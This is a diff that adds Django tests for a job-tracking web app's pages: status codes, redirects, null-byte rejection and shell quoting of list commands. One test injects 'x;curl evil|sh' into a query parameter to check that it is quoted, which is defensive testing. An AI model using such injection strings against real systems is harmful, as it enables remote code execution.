@@ -19,7 +19,7 @@ from django.test.utils import CaptureQueriesContext  # noqa: E402
 
 from pilotext.server.pages.urls import urlpatterns  # noqa: E402
 from pilotext.server.production.access.people import make_groups, set_user  # noqa: E402
-from pilotext.server.production.models import AuditEntry, Job, Task  # noqa: E402
+from pilotext.server.production.models import Attempt, AuditEntry, Experiment, Job, Task  # noqa: E402
 from pilotext.server.production.transitions import Reason  # noqa: E402
 from tests.server.support import fail, leased, raw, submit, succeed, the_job  # noqa: E402
 
@@ -190,7 +190,7 @@ def test_the_counters_of_a_task_lead_to_as_many_jobs_as_they_say() -> None:
     assert ready is not None
     listed = text_of(viewer.get(ready[1].replace("&amp;", "&")))
     assert listed.count('href="/jobs/') == int(ready[2]) == 2
-    assert "no merges" in listed
+    assert "no product" in listed
 
 
 def test_a_list_of_jobs_goes_on_on_the_next_page() -> None:
@@ -281,3 +281,57 @@ def test_a_page_costs_as_many_queries_for_many_jobs_as_for_few(pattern: str) -> 
         numbers.append(len(queries))
     assert max(numbers) <= MAX_QUERIES
     assert numbers[1] <= numbers[0] + 2
+
+
+def test_a_job_that_runs_has_a_page_before_any_report() -> None:
+    submit()
+    given = leased()
+    text = text_of(browser("expert").get(f"/jobs/{the_job().pk}"))
+    assert given.attempt
+    assert "No report yet" in text
+
+
+@pytest.mark.parametrize(("page", "word"), [("/jobs/{job}/decide", "fail"), ("/tasks/{task}/decide", "start")])
+def test_a_decision_that_moves_nothing_is_no_success(page: str, word: str) -> None:
+    submit()
+    answer = browser("manager").post(address(page), {"to": word, "why": "x"})
+    assert answer.status_code == 409
+    assert "nothing was changed" in text_of(answer)
+
+
+def test_after_a_login_a_decision_leads_to_its_object(failed_job: int) -> None:
+    answer = browser().post(f"/jobs/{failed_job}/decide", {"to": "fail", "why": "x"})
+    assert answer.status_code in (302, 405)
+    assert answer["Location"] == f"/login?next=/jobs/{failed_job}"
+
+
+@pytest.mark.parametrize("page", ["/jobs?path=&limit=1", "/manual?path=&limit=1", "/jobs?task=t1&assigned="])
+def test_empty_fields_of_an_address_break_nothing(page: str, failed_job: int) -> None:
+    assert browser("viewer").get(page).status_code == 200
+
+
+def test_a_text_with_a_zero_is_refused(failed_job: int) -> None:
+    assert browser("expert").get("/jobs?code=%00").status_code == 422
+    assert browser("expert").post(f"/jobs/{failed_job}/decide", {"to": "fail", "why": "a\0"}).status_code == 422
+
+
+def test_the_command_of_a_list_is_quoted(failed_job: int) -> None:
+    text = text_of(browser("viewer").get("/jobs?code=x;curl+evil|sh&after=99999"))
+    assert "--code &#x27;x;curl evil|sh&#x27;" in text
+
+
+def test_a_code_that_no_rule_has_and_an_attempt_had_is_no_error() -> None:
+    submit()
+    fail(leased(), "crash", "retry")
+    Attempt.objects.update(code="COMPASS-1999")
+    Job.objects.update(code="")
+    assert browser("viewer").get("/jobs?code=COMPASS-1999").status_code == 200
+    assert browser("viewer").get("/jobs?code=COMPASS-1998").status_code == 404
+
+
+def test_the_page_of_a_task_is_not_about_another_of_its_name() -> None:
+    submit([raw(7, 1)])
+    submit([raw(8, 1)], name="t2")
+    Task.objects.filter(name="t2").update(name="t1", experiment=Experiment.objects.exclude(name="COMPASS")[0])
+    text = text_of(browser("viewer").get(f"/tasks/{Task.objects.order_by('-pk')[0].pk}"))
+    assert re.findall(r"run=(\d)", text) == ["8"]
